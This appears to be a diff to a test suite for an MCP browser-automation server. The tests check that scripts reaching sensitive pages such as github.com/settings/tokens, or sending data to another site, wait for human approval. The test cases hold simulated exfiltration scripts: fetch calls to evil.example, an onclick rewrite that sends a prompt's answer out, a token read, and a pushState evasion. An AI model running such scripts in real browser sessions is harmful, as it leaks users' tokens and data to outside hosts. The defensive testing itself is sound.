@@ -155,6 +155,8 @@ describe('after a sensitive read, data-carrying requests to another site are hel
     ];
     for (const channel of channels) {
       const asked = mcp.human.questions.length;
+      // A script on github.com asks (the origin has sensitive paths); the human lets it run, not its leak.
+      mcp.human.will({ decision: 'approve' });
       await mcp.call('evaluate_script', {
         function: `async () => { try { await ${channel} } catch {} return 1 }`,
       });
@@ -179,6 +181,7 @@ describe('after a sensitive read, data-carrying requests to another site are hel
   test("a prompt's answer sent to another site is held", async () => {
     const acme = gh.url('github.com', '/acme');
     await mcp.call('navigate_page', { url: acme });
+    mcp.human.will({ decision: 'approve' });
     await mcp.call('evaluate_script', {
       function: `() => { document.querySelector('button').setAttribute('onclick', document.querySelector('button').getAttribute('onclick').replace('EVIL', ${JSON.stringify(evil.url('evil.example', ''))})); return 1 }`,
     });
@@ -197,14 +200,65 @@ describe('after a sensitive read, data-carrying requests to another site are hel
       mcp.call('evaluate_script', {
         function: `async () => { try { await fetch('${evil.url('evil.example', `/p?n=${n}`)}', { mode: 'no-cors' }) } catch {} return 1 }`,
       });
-    mcp.human.will({ decision: 'approve' });
+    mcp.human.will({ decision: 'approve' }, { decision: 'approve' });
     await send(1);
+    mcp.human.will({ decision: 'approve' });
     const asked = mcp.human.questions.length;
     await send(2);
-    assert.equal(mcp.human.questions.length, asked, 'asked again for an allowed site');
+    assert.equal(
+      mcp.human.questions.length,
+      asked + 1,
+      'asked again for an allowed site, not just for the script',
+    );
     assert.deepEqual(
       leaks().map((request) => request.path),
       ['/p?n=1', '/p?n=2'],
     );
+  });
+});
+
+describe('a path rule protects its pages from the rest of the origin', () => {
+  let gh: Fixture;
+  let mcp: McpUnderTest;
+  before(async () => {
+    gh = await startFixture(
+      {
+        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
+        '/acme': (_req, _body, res) => html(res, '<title>acme</title>acme'),
+        '/ran': (_req, _body, res) => html(res, 'ran'),
+      },
+      { tls: true },
+    );
+    mcp = await startMcp({ args: ['--mode', 'isolated'] });
+  });
+  after(async () => {
+    await mcp?.close();
+    await gh?.close();
+  });
+
+  test('a script on a plain page of github.com is judged by github.com/settings/*: it asks before it runs', async () => {
+    await mcp.call('new_page', { url: gh.url('github.com', '/acme') });
+    const asked = mcp.human.questions.length;
+    const read = await mcp.call('evaluate_script', {
+      function: `async () => { await fetch('/ran'); return (await fetch('/settings/tokens')).text() }`,
+    });
+    assert.ok(read.isError && read.text.startsWith('rejected:'), read.text);
+    assert.doesNotMatch(read.text, new RegExp(token));
+    assert.ok(!gh.seen.some((request) => request.path === '/ran'), 'the script ran before anyone said yes');
+    assert.match(
+      mcp.human.questions.at(asked) ?? '',
+      /can reach its sensitive pages \(rule \*:\/\/github\.com\/settings\/\*\)/,
+    );
+  });
+
+  test('a script that first moves its page elsewhere with pushState is still judged before it runs', async () => {
+    await mcp.call('navigate_page', { url: gh.url('github.com', '/acme') });
+    const asked = mcp.human.questions.length;
+    const moved = await mcp.call('evaluate_script', {
+      function: `() => { history.pushState(null, '', '/elsewhere'); fetch('/ran?moved=1'); return 1 }`,
+    });
+    assert.ok(moved.isError, moved.text);
+    assert.equal(mcp.human.questions.length, asked + 1);
+    assert.ok(!gh.seen.some((request) => request.path.startsWith('/ran')));
   });
 });
